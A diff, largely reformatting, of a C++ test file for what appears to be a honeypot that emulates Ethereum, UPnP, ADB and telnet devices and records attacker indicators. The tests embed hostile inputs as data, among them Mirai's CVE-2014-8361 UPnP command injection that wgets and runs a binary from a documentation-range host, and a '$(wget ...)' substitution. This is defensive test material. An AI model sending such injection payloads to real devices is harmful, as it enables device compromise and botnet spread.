@@ -1,7 +1,6 @@
-#include <catch2/catch.hpp>
-
 #include <rapidjson/document.h>
 
+#include <catch2/catch.hpp>
 #include <string>
 #include <vector>
 
@@ -43,8 +42,7 @@ exchange ask(const emulation_plan& plan, emulated_protocol protocol, const std::
 
 std::string post(const std::string& body, const char* extra = "") {
   return "POST / HTTP/1.1\r\nHost: 198.19.0.5:8545\r\nContent-Type: application/json\r\n" +
-         std::string(extra) + "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" +
-         body;
+         std::string(extra) + "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
 }
 
 rapidjson::Document json_of(const std::string& text) {
@@ -117,8 +115,7 @@ TEST_CASE("the Ethereum node answers the recon, unlock and send steps", "[emulat
   // Another sensor's secret: other accounts.
   emulation_plan other = plan;
   other.secret[0] ^= 1;
-  CHECK(json_of(ask(other, emulated_protocol::ethereum,
-                    post(R"({"id":1,"method":"eth_coinbase"})"))
+  CHECK(json_of(ask(other, emulated_protocol::ethereum, post(R"({"id":1,"method":"eth_coinbase"})"))
                     .body())["result"]
             .GetString() != first);
 
@@ -184,8 +181,7 @@ TEST_CASE("the Ethereum node answers batches, errors and never says the client's
   CHECK(x.body().find("rm -rf") == std::string::npos);
   CHECK(x.body().find("script") == std::string::npos);
   // An id that is an object, or a long string, is not said back.
-  x = ask(plan, emulated_protocol::ethereum,
-          post(R"({"id":{"evil":1},"method":"net_version"})"));
+  x = ask(plan, emulated_protocol::ethereum, post(R"({"id":{"evil":1},"method":"net_version"})"));
   CHECK(json_of(x.body())["id"].IsNull());
   x = ask(plan, emulated_protocol::ethereum,
           post(R"({"id":")" + std::string(100, 'x') + R"(","method":"net_version"})"));
@@ -244,17 +240,17 @@ TEST_CASE("the Claymore API reports a rig and records control commands", "[emula
   CHECK(x.turn.close);
 }
 
-TEST_CASE("the plain web server answers 200 and keeps the URLs an exploit carries",
-          "[emulation]") {
+TEST_CASE("the plain web server answers 200 and keeps the URLs an exploit carries", "[emulation]") {
   const emulation_plan plan = test_plan();
   // Mirai's Realtek UPnP exploit (CVE-2014-8361), as its source sends it.
   const std::string soap =
       "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:AddPortMapping>"
       "<NewInternalClient>`cd /var; wget http://192.0.2.66/bins/mirai.mips -O m; chmod 777 m; "
       "./m`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>";
-  const std::string request = "POST /picsdesc.xml HTTP/1.1\r\nHost: 198.19.0.5:52869\r\n"
-                              "Content-Length: " +
-                              std::to_string(soap.size()) + "\r\n\r\n" + soap;
+  const std::string request =
+      "POST /picsdesc.xml HTTP/1.1\r\nHost: 198.19.0.5:52869\r\n"
+      "Content-Length: " +
+      std::to_string(soap.size()) + "\r\n\r\n" + soap;
   exchange x = ask(plan, emulated_protocol::http, request);
   CHECK(x.answer.rfind("HTTP/1.1 200 OK\r\n", 0) == 0);
   CHECK(x.turn.steps == step_bit(emulated_step::http_request));
@@ -264,15 +260,15 @@ TEST_CASE("the plain web server answers 200 and keeps the URLs an exploit carrie
   CHECK(x.turn.indicators[0].value() == "http://192.0.2.66/bins/mirai.mips");
   // A SOAP envelope's namespaces are attributes, not downloads.
   emulation_turn soap_turn;
-  note_urls("<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\">"
-            "$(wget http://192.0.2.66/h -O /tmp/h)</s:Envelope>",
-            soap_turn);
+  note_urls(
+      "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\">"
+      "$(wget http://192.0.2.66/h -O /tmp/h)</s:Envelope>",
+      soap_turn);
   REQUIRE(soap_turn.indicator_count == 1);
   CHECK(soap_turn.indicators[0].value() == "http://192.0.2.66/h");
 }
 
-TEST_CASE("--emulate names protocols and ports, and refuses what it cannot do",
-          "[emulation]") {
+TEST_CASE("--emulate names protocols and ports, and refuses what it cannot do", "[emulation]") {
   emulation_plan plan;
   CHECK(plan_emulation("none", {}, plan).empty());
   CHECK_FALSE(plan.any());
@@ -392,10 +388,10 @@ TEST_CASE("the ADB device connects, runs nothing and hashes what is pushed", "[e
   REQUIRE(adb_commands(x.answer) == std::vector<std::string>{"OKAY", "WRTE"});
   const std::string stat = x.answer.substr(24 + 24);  // after OKAY and WRTE's header
   CHECK(stat.substr(0, 4) == "STAT");
-  CHECK(le32(stat, 4) == 040771);  // a folder
+  CHECK(le32(stat, 4) == 040771);                      // a folder
   const std::string file = "#!/bin/sh\necho mined\n";  // sha256 below, from sha256sum
-  std::string push = sync_request("SEND", "/data/local/tmp/x.sh,33261") +
-                     sync_request("DATA", file.substr(0, 10));
+  std::string push =
+      sync_request("SEND", "/data/local/tmp/x.sh,33261") + sync_request("DATA", file.substr(0, 10));
   x = adb.ask(adb_message("WRTE", 9, sync, push.substr(0, 30)));
   CHECK(adb_commands(x.answer) == std::vector<std::string>{"OKAY"});
   std::string rest = push.substr(30) + sync_request("DATA", file.substr(10)) + "DONE";
@@ -425,8 +421,8 @@ TEST_CASE("the telnet device prompts, logs in and takes commands without echoing
   stateful telnet(emulated_protocol::telnet);
   emulation_context context{&telnet.plan, t0, 42, 0, telnet.state.data()};
   std::string greeting(max_answer_data, '\0');
-  const emulation_turn hello = greet(emulated_protocol::telnet, context,
-                                     reinterpret_cast<uint8_t*>(greeting.data()));
+  const emulation_turn hello =
+      greet(emulated_protocol::telnet, context, reinterpret_cast<uint8_t*>(greeting.data()));
   CHECK(greeting.substr(0, hello.answer_length) == "\r\nlogin: ");
   // Mirai's option answers first, then the user name.
   exchange x = telnet.ask("\xff\xfd\x01\xff\xfb\x1f");
